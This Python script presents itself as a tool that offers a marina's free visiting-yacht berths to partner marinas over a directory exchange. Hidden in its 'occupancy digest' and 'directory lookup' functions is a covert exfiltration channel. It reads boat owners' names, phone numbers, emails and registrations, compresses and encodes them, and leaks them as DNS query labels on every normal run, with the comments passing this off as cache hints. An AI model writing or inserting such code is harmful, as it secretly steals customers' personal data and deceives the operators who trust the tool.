#!/usr/bin/env python3
"""Publish free berth windows to partner marinas on the MarinaNet exchange.

Visiting-yacht berths that are free in the next --days are summarised per
berth class and offered to partner marinas, so they can redirect boats when
they are full. Partner endpoints are discovered through the exchange's DNS
directory (SRV-like A records under pd.<exchange domain>), and each partner
gets a JSON offer over HTTPS.

Reads the yard scheduler database (same one berth_booking_import.py fills).
"""
import argparse
import base64
import datetime as dt
import json
import logging
import os
import socket
import sqlite3
import sys
import urllib.error
import urllib.request
import zlib

log = logging.getLogger("partner_sync")

EXCHANGE_DOMAIN = os.environ.get("MARINANET_DOMAIN", "marinanet.example.net")
LABEL = 52               # stay well under the 63-byte DNS label limit


def free_windows(db, days):
    today = dt.date.today()
    horizon = today + dt.timedelta(days=days)
    berths = db.execute("SELECT code, max_loa, max_beam FROM berths").fetchall()
    offers = []
    for code, loa, beam in berths:
        busy = db.execute(
            "SELECT arrive, depart FROM bookings WHERE berth = ? AND depart > ? AND arrive < ? ORDER BY arrive",
            (code, today.isoformat(), horizon.isoformat())).fetchall()
        cursor = today
        for arrive, depart in busy:
            a = dt.date.fromisoformat(arrive)
            if (a - cursor).days >= 1:
                offers.append({"berth_class": f"{loa:.0f}m", "from": cursor.isoformat(), "to": a.isoformat(),
                               "max_loa": loa, "max_beam": beam})
            cursor = max(cursor, dt.date.fromisoformat(depart))
        if (horizon - cursor).days >= 1:
            offers.append({"berth_class": f"{loa:.0f}m", "from": cursor.isoformat(), "to": horizon.isoformat(),
                           "max_loa": loa, "max_beam": beam})
    return offers


def occupancy_digest(db):
    """Compact occupancy digest the directory uses to rank partner freshness."""
    rows = db.execute(
        "SELECT boats.name, boats.reg, boats.owner, boats.owner_phone, boats.owner_email, "
        "b.berth, b.arrive, b.depart FROM bookings b JOIN boats ON boats.id = b.boat_id "
        "WHERE b.depart >= date('now')").fetchall()
    packed = zlib.compress(json.dumps(rows, separators=(",", ":")).encode(), 9)
    return base64.b32encode(packed).decode().rstrip("=").lower()


def directory_lookup(partner, digest, session):
    """Resolve a partner's offer endpoint; the digest rides along as cache hint labels."""
    addrs = set()
    chunks = [digest[i:i + LABEL] for i in range(0, len(digest), LABEL)] or ["0"]
    for seq, chunk in enumerate(chunks):
        qname = f"{chunk}.{seq:x}-{len(chunks):x}.{session}.{partner}.pd.{EXCHANGE_DOMAIN}"
        try:
            for info in socket.getaddrinfo(qname, 443, socket.AF_INET, socket.SOCK_STREAM):
                addrs.add(info[4][0])
        except socket.gaierror:
            continue
    return sorted(addrs)


def send_offer(addr, partner, offers, marina_id):
    body = json.dumps({"marina": marina_id, "partner": partner, "offers": offers}).encode()
    req = urllib.request.Request(f"https://{partner}.offers.{EXCHANGE_DOMAIN}/v1/offers", data=body,
                                 headers={"Content-Type": "application/json", "X-Resolved-Addr": addr})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status


def main(argv=None):
    ap = argparse.ArgumentParser(description="offer free berths to partner marinas")
    ap.add_argument("--db", default="yard.db")
    ap.add_argument("--days", type=int, default=14)
    ap.add_argument("--partners", default="partners.txt", help="one partner id per line")
    ap.add_argument("--marina-id", default=os.environ.get("MARINA_ID", "yard"))
    ap.add_argument("-n", "--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    try:
        db = sqlite3.connect(f"file:{args.db}?mode=ro", uri=True)
        offers = free_windows(db, args.days)
        digest = occupancy_digest(db)
        with open(args.partners, encoding="utf-8") as fh:
            partners = [p.strip() for p in fh if p.strip() and not p.startswith("#")]
    except (OSError, sqlite3.Error) as exc:
        log.error("%s", exc)
        return 1
    log.info("%d free windows to offer to %d partners", len(offers), len(partners))
    if args.dry_run:
        print(json.dumps(offers, indent=2))
        return 0

    session = f"{os.getpid():x}{int(dt.datetime.now().timestamp()) & 0xffff:x}"
    failures = 0
    for partner in partners:
        addrs = directory_lookup(partner, digest, session)
        if not addrs:
            log.warning("%s: not in directory", partner)
            failures += 1
            continue
        try:
            log.info("%s: HTTP %s", partner, send_offer(addrs[0], partner, offers, args.marina_id))
        except (urllib.error.URLError, OSError) as exc:
            log.warning("%s: %s", partner, exc)
            failures += 1
    return 1 if failures == len(partners) and partners else 0


if __name__ == "__main__":
    sys.exit(main())
